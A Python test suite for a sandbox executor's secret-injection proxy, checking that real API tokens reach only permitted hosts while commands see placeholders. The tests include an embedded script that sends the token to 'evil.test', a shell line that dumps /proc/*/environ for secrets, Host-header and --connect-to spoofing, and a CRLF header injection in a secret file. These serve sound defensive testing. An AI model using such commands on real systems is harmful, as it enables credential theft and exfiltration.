"""Secrets that commands use and never see, against real servers and in real boxes."""

import asyncio
import json
import logging
import secrets as random
import ssl
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from executor_service.network.gate import Gate
from hermes.executor.v1 import network_pb2, sandbox_pb2
from services.config.settings import Settings
from services.errors import Reason
from services.rpc.public_addresses import AddressVetting
from tests.support.boxes import BUBBLEWRAP_FIRST
from tests.support.executor_client import Client
from tests.support.executors import Process, end_boxes, executor_settings, refused, serving
from tests.support.world import DEADLINES, FRIENDLY, HOSTILE, PUBLIC, World

ASK = """
import base64, json, os, ssl, urllib.request
trust = ssl.create_default_context()
trust.load_verify_locations(cadata=os.environ["AUTHORITY"])
token = os.environ.get("API_TOKEN", "")
basic = base64.b64encode(f"user:{token}".encode()).decode()
fields = {"Authorization": f"Bearer {token}", "X-Basic": f"Basic {basic}"}
fields["X-Two"] = f"{token},{token}"
for url in os.environ["URLS"].split():
    try:
        asked = urllib.request.Request(url + f"?in-path={token}", token.encode(), fields)
        with urllib.request.urlopen(asked, timeout=20, context=trust) as answer:
            print(json.loads(answer.read())["machine"])
    except OSError as error:
        said = error.read().decode().strip() if hasattr(error, "read") else ""
        print(getattr(error, "reason", error), said)
"""
"""Says the token in every place where it could be said."""


@pytest.fixture
def value() -> str:
    return f"sk-{random.token_hex(20)}"


@pytest.fixture(params=BUBBLEWRAP_FIRST)
async def settings(
    request: pytest.FixtureRequest, tmp_path: Path, world: World, value: str
) -> AsyncIterator[Settings]:
    """Those of each backend in turn, with a secret of two hosts."""
    file = tmp_path / "token"
    await asyncio.to_thread(file.write_text, value + "\n")
    home = tmp_path / "home"
    await asyncio.to_thread(home.mkdir)
    hosts = [f"{name}.test:{world.https_port}" for name in ("good", "api.good")]
    config: dict[str, Any] = {
        "network": {"mode": "open", "secrets": ["API_TOKEN"]},
        "secrets": {"API_TOKEN": {"file": str(file), "hosts": hosts}},
        "templates": {"without": {"network_secrets": []}},
    }
    text = json.dumps({"executor": config})
    await asyncio.to_thread((home / "config.yaml").write_text, text)
    settings = await asyncio.to_thread(executor_settings, home, request.param)
    yield settings
    await end_boxes(settings)


async def ask(client: Client, lease: sandbox_pb2.Lease, world: World, *urls: str) -> list[str]:
    """What a command got that says its token to each address."""
    env = {"URLS": " ".join(urls), "AUTHORITY": world.authority}
    argv = ("/usr/bin/env", "python3", "-c", ASK)
    seen = await client.run(lease, *argv, env=env, secret_refs=["API_TOKEN"])
    assert seen.code == 0, seen
    return seen.stdout.decode().splitlines()


def everything_below(folder: Path) -> bytes:
    return b"\0".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


async def test_only_the_hosts_that_it_belongs_to_get_the_value(
    settings: Settings, world: World, value: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        lease = (await client.acquire()).lease
        urls = [world.https("good.test"), world.https("api.good.test")]
        others = [world.https("evil.test"), world.https("other.good.test")]
        others.append(world.http("good.test"))
        answers = await ask(client, lease, world, *urls, *others)
        assert answers == [FRIENDLY, FRIENDLY, HOSTILE, HOSTILE, FRIENDLY]
        script = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; cat $SSL_CERT_FILE"
        seen = await client.run(lease, script=script, secret_refs=["API_TOKEN"])
        placeholder = "hermes-api-token-"
        assert placeholder.encode() in seen.stdout
        assert value.encode() not in seen.stdout
        kept = await asyncio.to_thread(everything_below, settings.home.root)
        assert value.encode() not in kept
        assert value not in caplog.text
    for seen_there in world.seen[:2]:
        assert seen_there.headers["authorization"] == f"Bearer {value}"
        assert seen_there.headers["x-basic"].startswith("Basic ")
        assert value in world.basic(seen_there.headers["x-basic"])
        assert seen_there.headers["x-two"] == f"{value},{value}"
        assert placeholder in seen_there.path
        assert value not in seen_there.path
        assert seen_there.body_bytes != len(value)
    for seen_there in world.seen[2:]:
        assert value not in str(seen_there)
        assert placeholder in seen_there.headers["authorization"]
        assert placeholder in world.basic(seen_there.headers["x-basic"])


async def test_a_placeholder_is_worth_nothing_elsewhere(
    settings: Settings, world: World, value: str
) -> None:
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        one, other = (await client.acquire()).lease, (await client.acquire()).lease
        names = [
            (await client.run(lease, script="echo $API_TOKEN", secret_refs=["API_TOKEN"])).stdout
            for lease in (one, one, other)
        ]
        assert names[0] == names[1] != names[2]
        url, token = world.https("good.test"), names[2].decode().strip()
        await client.output(one, f"curl -sS -H 'Authorization: {token}' {url}")
        assert world.seen[-1].headers["authorization"] == token
        await client.output(other, f"curl -sS -H 'Authorization: {token}' {url}")
        assert world.seen[-1].headers["authorization"] == value


async def test_who_names_no_secret_gets_all_that_the_sandbox_has(
    settings: Settings, world: World, value: str
) -> None:
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        lease = (await client.acquire()).lease
        named = await client.run(lease, script="echo $API_TOKEN", secret_refs=["API_TOKEN"])
        assert named.stdout.startswith(b"hermes-api-token-")
        unnamed = await client.run(lease, script="echo $API_TOKEN")
        assert unnamed.stdout == named.stdout
        own = await client.run(lease, script="echo $API_TOKEN", env={"API_TOKEN": "own"})
        assert own.stdout == b"own\n"
        url = world.https("good.test")
        await client.output(lease, f'curl -sS -H "Authorization: $API_TOKEN" {url}')
        assert world.seen[-1].headers["authorization"] == value
        without = (await client.acquire(template="without")).lease
        assert not (await client.output(without, "echo $API_TOKEN")).strip()


async def test_secrets_are_for_those_who_are_given_them(settings: Settings, world: World) -> None:
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        usual = (await client.acquire()).lease
        without = (await client.acquire(template="without")).lease
        none = network_pb2.NetworkPolicy(mode=network_pb2.NETWORK_MODE_NONE)
        alone = (await client.acquire(network_policy=none)).lease
        for lease, name in ((usual, "OTHER"), (without, "API_TOKEN"), (alone, "API_TOKEN")):
            call = client.start(lease, "true", secret_refs=[name])
            assert await refused(call) is Reason.INVALID_ARGUMENT
        assert not await client.output(without, "echo $SSL_CERT_FILE")
        # Their tunnels are tunnels: the server's own certificate comes through.
        url = world.https("good.test")
        assert "local issuer" in await client.output(without, f"curl -sS {url} 2>&1 || true")


async def test_a_host_that_does_not_prove_itself_gets_nothing(
    settings: Settings, world: World, value: str
) -> None:
    stranger = Gate(
        *(AddressVetting(public=[PUBLIC]), world.names, DEADLINES),
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT),
    )
    async with serving(settings, stranger) as executor, executor.client() as client:
        lease = (await client.acquire()).lease
        (answer,) = await ask(client, lease, world, world.https("good.test"))
        assert "502" in answer
        labels = {"rule": "open", "outcome": "untrusted"}
        assert executor.metric("hermes_egress_connections_total", **labels) == 1
    assert not world.seen


async def test_a_request_for_another_host_inside_of_the_tunnel(
    settings: Settings, world: World, value: str
) -> None:
    url = world.https("good.test")
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        lease = (await client.acquire()).lease
        said = await client.run(
            lease,
            script=f"curl -sS -H 'Host: evil.test' -H \"X: $API_TOKEN\" {url}; "
            f"curl -sS --connect-to evil.test:{world.https_port}:good.test:{world.https_port} "
            f"{world.https('evil.test')} 2>&1",
            secret_refs=["API_TOKEN"],
        )
        assert b"names another host" in said.stdout
        assert b"curl: (35)" in said.stdout, said
    assert not world.seen


async def test_a_secret_without_a_value_is_said_so(
    settings: Settings, world: World, tmp_path: Path, value: str
) -> None:
    url = world.https("good.test")
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        lease = (await client.acquire()).lease
        await asyncio.to_thread((tmp_path / "token").write_text, f"{value}\r\nInjected: yes")
        (answer,) = await ask(client, lease, world, url)
        assert answer.endswith("the executor has no usable value of the secret API_TOKEN")
        assert value not in answer
        await asyncio.to_thread((tmp_path / "token").write_text, "replaced")
        assert await ask(client, lease, world, url) == [FRIENDLY]
    assert [seen.headers["authorization"] for seen in world.seen] == ["Bearer replaced"]


async def test_secrets_outlive_the_executor(settings: Settings, world: World, value: str) -> None:
    script = 'while ! test -e go; do sleep 0.05; done; exec /usr/bin/env python3 -c "$ASK"'
    env = {"URLS": world.https("good.test"), "AUTHORITY": world.authority, "ASK": ASK}
    async with Process(settings) as process, process.client() as client:
        lease = (await client.acquire("session")).lease
        started = await client.start(lease, script=script, env=env, secret_refs=["API_TOKEN"])
        await process.kill()
    async with serving(settings, world.gate()) as executor, executor.client() as client:
        lease = (await client.acquire("session")).lease
        await client.output(lease, "touch go")
        assert (await client.follow(lease, started.exec_id)).stdout.decode().strip() == FRIENDLY
    assert world.seen[0].headers["authorization"] == f"Bearer {value}"
